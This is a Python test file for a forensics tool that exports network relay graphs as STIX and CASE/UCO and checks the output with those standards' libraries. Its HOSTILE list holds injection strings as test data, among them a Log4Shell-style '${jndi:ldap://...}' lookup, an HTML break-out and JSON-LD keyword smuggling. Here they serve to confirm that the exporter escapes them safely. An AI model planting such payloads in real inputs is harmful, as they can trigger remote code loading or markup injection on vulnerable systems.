"""The hop graph as STIX and as CASE/UCO: read back and judged by the libraries of those standards."""

from __future__ import annotations

import json
import re
import warnings
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import networkx as nx
import pytest

from forensics import write_graph
from forensics.escaping import xml_safe
from forensics.exports import all_kinds

if TYPE_CHECKING:
    from pathlib import Path

    Graph = nx.MultiDiGraph[str]

stix2 = pytest.importorskip("stix2")

T0 = datetime(2015, 5, 8, 1, 30, tzinfo=UTC)
SHA = "ab" * 32
TERMINAL, RELAY, NEXT, NAMED = "10.0.0.21", "198.51.100.116", "2001:db8::7", "operator.example"
HOSTILE = [
    '"><b>', "lone\ud800", "nul\0", "\\", "${jndi:ldap://192.0.2.1}", "x\u202ey", "a}{", "[domain-name:value = 'x']",
    "@id", "uco-core:name", "_:b0", "\u7d4c\u7406\u90e8",
]  # fmt: skip


def operation() -> Graph:
    """Return a graph with every tier, an address of each family, a name without address, and what is not known."""
    graph: Graph = nx.MultiDiGraph(title="Test", statement="at least 1 relay observed passing traffic on", start=T0)
    graph.graph["end"] = T0 + timedelta(days=3, microseconds=123_456)
    about: dict[str, Any] = {"first_seen": T0, "last_seen": T0 + timedelta(days=3), "bytes_out": 9, "bytes_in": None}
    graph.add_node(NAMED, role="upstream", names=[], reasons=[], **about)
    graph.add_node(RELAY, role="relay", names=["shop.example", RELAY], reasons=["spike", "rare"], **about)
    graph.nodes[RELAY]["names_seen"] = [
        {"name": "shop.example", "how": "dns", "first": T0, "last": T0 + timedelta(hours=1), "times": 2},
        {"name": "shop.example", "how": "http", "first": T0 - timedelta(hours=1), "last": T0, "times": 9},
        {"name": "later.example", "how": "sni", "first": T0, "last": T0, "times": 1},
    ]
    graph.nodes[RELAY].update(country="JP", as_number=64500, as_name="Example Hosting", rank=1, score=8.5)
    graph.add_node(NEXT, role="relay", names=["other.example"], reasons=[], **about)
    graph.add_node(TERMINAL, role="terminal", names=[], reasons=[], **about)
    for tail, head, tier, facts in (
        (TERMINAL, RELAY, "observed", {"bytes_out": 48_200_000, "bytes_in": 310_000}),
        (RELAY, NEXT, "observed", {"bytes_out": 0, "end": T0 + timedelta(microseconds=50)}),
        (RELAY, NEXT, "matched", {"p_value": 2e-4}),
        (NEXT, NAMED, "asserted", {"start": None, "end": None, "connections": None, "bytes_kind": None}),
        (TERMINAL, NAMED, "shared", {}),
    ):
        usual = {"tier": tier, "start": T0, "end": T0 + timedelta(days=1), "bytes_out": None, "bytes_in": None}
        usual |= {"bytes_kind": "ip", "connections": 3, "reason": "on record", "p_value": None}
        usual["evidence"] = [{"source": "proxy/access.log", "sha256": SHA, "records": "4,18-22", "rows": 6}]
        graph.add_edge(tail, head, key=tier, **(usual | facts))
    return graph


def hostile() -> Graph:
    """Return nodes, names, files and reasons that an attacker wrote."""
    graph: Graph = nx.MultiDiGraph(title=HOSTILE[0], statement=HOSTILE[1], start=T0, end=T0)
    for i, name in enumerate(HOSTILE):
        other = HOSTILE[i - 1]
        graph.add_node(name, role="relay", names=[other], reasons=[name, other], first_seen=T0, last_seen=T0)
        evidence = [{"source": name, "sha256": "no hash", "records": other, "rows": 1}]
        facts: dict[str, Any] = {"start": T0, "end": T0, "bytes_out": 1, "connections": 1, "evidence": evidence}
        graph.add_edge(name, other, key="observed", tier="observed", reason=name, bytes_kind=other, **facts)
    return graph


def objects(graph: Graph) -> list[dict[str, Any]]:
    """Return the objects of the bundle."""
    made: list[dict[str, Any]] = json.loads(all_kinds()[".stix.json"].render(graph)[".stix.json"])["objects"]
    return made


def of(made: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
    """Return the objects of one type."""
    return [thing for thing in made if thing["type"] == kind]


@pytest.mark.parametrize("make", [operation, hostile, nx.MultiDiGraph])
def test_stix2_accepts_the_bundle(make: Any, tmp_path: Path) -> None:  # noqa: ANN401 - a maker
    """The OASIS library parses it without one custom property, and gives every observable the same id."""
    [path] = write_graph(make(), tmp_path / "hops.stix.json")
    bundle = stix2.parse(path.read_text("utf-8"), allow_custom=False)
    known = {thing["id"] for thing in bundle.objects}

    for thing in bundle.objects:
        mine = json.loads(thing.serialize())
        assert {value for key, value in mine.items() if key.endswith("_ref")} <= known
        assert set(mine.get("object_refs", [])) <= known
        if "created" not in mine:  # an observable: its id is the standard's
            again = type(thing)(**{key: value for key, value in mine.items() if key != "id"})
            assert again["id"] == thing["id"]


def test_stix_has_every_node_and_every_edge() -> None:
    """One infrastructure per node with its role, one relationship per edge with its tier; only observed ones count."""
    made = objects(operation())
    roles = {thing["id"]: (thing["name"], *thing["labels"]) for thing in of(made, "infrastructure")}
    edges = [r for r in of(made, "relationship") if r["source_ref"] in roles and r["target_ref"] in roles]
    told = {(roles[r["source_ref"]][0], roles[r["target_ref"]][0], *r["labels"]): r for r in edges}

    assert sorted(roles.values()) == [
        (TERMINAL, "terminal"), (RELAY, "relay"), (NEXT, "relay"), (NAMED, "upstream"),
    ]  # fmt: skip
    assert {key: r["relationship_type"] for key, r in told.items()} == {
        (TERMINAL, RELAY, "observed"): "communicates-with",
        (RELAY, NEXT, "observed"): "communicates-with",
        (RELAY, NEXT, "matched"): "related-to",
        (NEXT, NAMED, "asserted"): "related-to",
        (TERMINAL, NAMED, "shared"): "related-to",
    }
    assert told[RELAY, NEXT, "matched"]["description"] == "on record (p = 0.0002)"
    assert told[RELAY, NEXT, "matched"]["external_references"] == [
        {"source_name": "proxy/access.log", "description": "packets or lines 4,18-22", "hashes": {"SHA-256": SHA}}
    ]
    assert "start_time" not in told[NEXT, NAMED, "asserted"]
    assert len(of(made, "network-traffic")) == len(of(made, "observed-data")) == 2


def test_stix_counts_what_was_counted() -> None:
    """Bytes stand in the traffic; 0 is 0, and what was not observed is absent."""
    traffic = sorted(of(objects(operation()), "network-traffic"), key=lambda thing: thing["src_byte_count"])

    assert [thing["src_byte_count"] for thing in traffic] == [0, 48_200_000]
    assert "dst_byte_count" not in traffic[0]
    assert (traffic[1]["dst_byte_count"], traffic[1]["protocols"]) == (310_000, ["ipv4"])
    assert traffic[0]["protocols"] == ["ipv6"]


def test_stix_tells_names_country_and_network() -> None:
    """A name of a DNS answer resolves, another one is only related; country and network are objects."""
    made = objects(operation())
    values = {thing["id"]: thing.get("value") for thing in made}
    kinds = {values[r["source_ref"]]: r["relationship_type"] for r in of(made, "relationship")}

    assert (kinds["shop.example"], kinds["other.example"]) == ("resolves-to", "related-to")
    named = {values[r["source_ref"]]: r for r in of(made, "relationship")}
    assert (named["shop.example"]["start_time"], named["shop.example"]["stop_time"]) == (
        "2015-05-08T01:30:00Z",
        "2015-05-08T02:30:00Z",
    )
    assert named["later.example"]["description"] == "known by: sni"
    assert (named["later.example"]["start_time"], "stop_time" in named["later.example"]) == (
        "2015-05-08T01:30:00Z",
        False,
    )
    assert [thing["country"] for thing in of(made, "location")] == ["JP"]
    assert [(t["number"], t["name"]) for t in of(made, "autonomous-system")] == [(64500, "Example Hosting")]


def test_stix_is_dated_to_the_evidence() -> None:
    """Objects are made at the last time of the evidence, to the millisecond: no clock is asked, no id is random."""
    made = objects(operation())

    assert {thing["created"] for thing in made if "created" in thing} == {"2015-05-11T01:30:00.123Z"}
    assert {thing["created"] for thing in objects(nx.MultiDiGraph())} == {"1970-01-01T00:00:00.000Z"}
    assert all(re.fullmatch(r"[a-z0-9-]+--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-.*", thing["id"]) for thing in made)


def test_case_validate_accepts_the_file(tmp_path: Path) -> None:
    """The CASE community's validator finds no violation, no warning and no unknown word, hostile names included."""
    validate = pytest.importorskip("case_utils.case_validate")
    for name, graph in (("operation", operation()), ("hostile", hostile())):
        [path] = write_graph(graph, tmp_path / f"{name}.case.jsonld")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # of libraries, about their own successors
            result = validate.validate(str(path))
        assert result.conforms
        assert not result.undefined_concepts
        assert "Severity" not in result.text


def test_rdflib_reads_what_case_says() -> None:
    """Addresses, tiers, bytes and hashes come back by a query."""
    rdflib = pytest.importorskip("rdflib")
    text = all_kinds()[".case.jsonld"].render(operation())[".case.jsonld"].decode()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of libraries, about their own successors
        data = rdflib.Graph().parse(data=text, format="json-ld")
        words = "https://ontology.unifiedcyberontology.org/uco/"
        prefixes = "".join(f"PREFIX {name}: <{words}{name}/> " for name in ("core", "observable", "types"))
        edges = data.query(
            prefixes
            + "SELECT ?a ?b ?tier WHERE {?r core:source/core:name ?a; core:target/core:name ?b; core:tag ?tier}"
        )
        assert sorted(tuple(map(str, row)) for row in edges) == sorted(
            (u, v, k) for u, v, k in operation().edges(keys=True)
        )
        sent = data.query(prefixes + "SELECT ?n WHERE {?f observable:srcBytes ?n}")
        assert sorted(int(row[0]) for row in sent) == [0, 48_200_000]
        hashes = data.query(prefixes + "SELECT ?h WHERE {?x types:hashValue ?h}")
        assert {str(row[0]).lower() for row in hashes} == {SHA}
        names = {str(row[0]) for row in data.query(prefixes + "SELECT ?n WHERE {?x core:name ?n}")}
        called = data.query(
            prefixes
            + "SELECT ?n ?kind ?t WHERE {?r core:kindOfRelationship ?kind; core:startTime ?t; "
            "core:source/core:hasFacet/observable:value ?n; core:target/core:name 'NODE'}".replace("NODE", RELAY)
        )
        assert {(str(n), str(kind), str(time)) for n, kind, time in called} == {
            ("shop.example", "Resolved_To", "2015-05-08T01:30:00+00:00"),
            ("shop.example", "Related_To", "2015-05-08T00:30:00+00:00"),
            ("later.example", "Related_To", "2015-05-08T01:30:00+00:00"),
        }
    assert {TERMINAL, RELAY, NEXT, NAMED} <= names


def test_case_keeps_hostile_names_as_text() -> None:
    """Names that JSON-LD could take for words of its own, or cannot be encoded, are plain values."""
    made = json.loads(all_kinds()[".case.jsonld"].render(hostile())[".case.jsonld"])["@graph"]

    assert {xml_safe(name) for name in HOSTILE} <= {thing.get("uco-core:name") for thing in made}
